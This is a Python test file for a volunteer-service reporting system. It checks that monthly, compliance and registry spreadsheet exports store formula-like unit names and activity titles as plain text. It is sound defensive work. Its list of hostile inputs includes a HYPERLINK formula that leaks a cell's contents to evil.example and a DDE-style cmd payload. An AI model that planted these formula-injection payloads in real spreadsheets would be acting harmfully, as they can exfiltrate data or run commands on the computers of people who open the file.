"""Exports write user text as text: a unit name or activity title that begins like a formula (`=`, `+`, `-`, `@`,
a tab or a carriage return) is a string cell in the file the province office opens, never a formula (no I/O)."""

from __future__ import annotations

import io
from typing import Any

import openpyxl
import pytest

from services.reporting.adapters.xlsx import compliance_xlsx, monthly_xlsx

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)


def unit(name: str) -> dict[str, Any]:
    return {
        "unit_id": "U1",
        "name": name,
        "kind": "city_detachment",
        "kind_zh": "市级科技志愿服务支队",
        "city": "石家庄市",
        "volunteers": 3,
        "subtree_volunteers": 3,
        "minimum": 50,
        "new_volunteers": 1,
        "activities": 1,
        "hours": 2.5,
        "people_served": 10,
        "rules": [{"label_zh": "首批人数", "status_zh": "未完成", "gap": 47, "detail_zh": name, "due_at": None}],
    }


def cells(data: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text(data: bytes, text: str) -> None:
    # a carriage return is stored escaped (`_x000D_`), which openpyxl does not undo
    found = [c for c in cells(data) if isinstance(c.value, str) and c.value.replace("_x000D_", "\r") == text]
    assert found, f"{text!r} not written"
    assert all(c.data_type == "s" for c in found)  # a string cell: Excel shows it, never evaluates it
    assert not any(c.data_type == "f" for c in cells(data))


@pytest.mark.parametrize("text", HOSTILE)
def test_monthly_export_writes_formula_like_names_and_titles_as_text(text: str) -> None:
    report = {
        "name": text,
        "month": "2026-05",
        "due_at": None,
        "submission": None,
        "team_building": {"units": 1, "units_active": 1, "subtree_volunteers": 3, "subtree_new_volunteers": 1},
        "rollup": {"activities": 1, "hours": 2.5, "people_served": 10},
        "units": [unit(text)],
        "activities_carried_out": [
            {
                "unit_name": text,
                "title": text,
                "starts_at": "2026-05-03T09:00:00+08:00",
                "line_of_work": "community_school",
                "themes": ["women_youth"],
                "participants": 2,
                "hours": 2.5,
                "people_served": 10,
            }
        ],
    }
    data = monthly_xlsx(report)
    assert_text(data, text)
    numbers = [c.value for c in cells(data) if c.data_type == "n"]
    assert 2.5 in numbers and 10 in numbers  # figures stay numbers


@pytest.mark.parametrize("text", HOSTILE)
def test_compliance_export_writes_formula_like_names_as_text(text: str) -> None:
    assert_text(compliance_xlsx({"units": [unit(text)]}), text)


@pytest.mark.parametrize("text", HOSTILE[:4])
def test_registry_forms_export_writes_formula_like_unit_names_as_text(text: str) -> None:
    from services.registry.adapters.spreadsheets.forms import ORGANISATIONS, VOLUNTEERS
    from services.registry.adapters.spreadsheets.workbook import export_form

    organisation = ORGANISATIONS.example
    named = organisation.model_copy(update={"profile": organisation.profile.model_copy(update={"name": text})})
    assert_text(export_form(ORGANISATIONS, [named]), text)
    volunteer = VOLUNTEERS.example.model_copy(update={"unit_name": text})
    assert_text(export_form(VOLUNTEERS, [volunteer]), text)
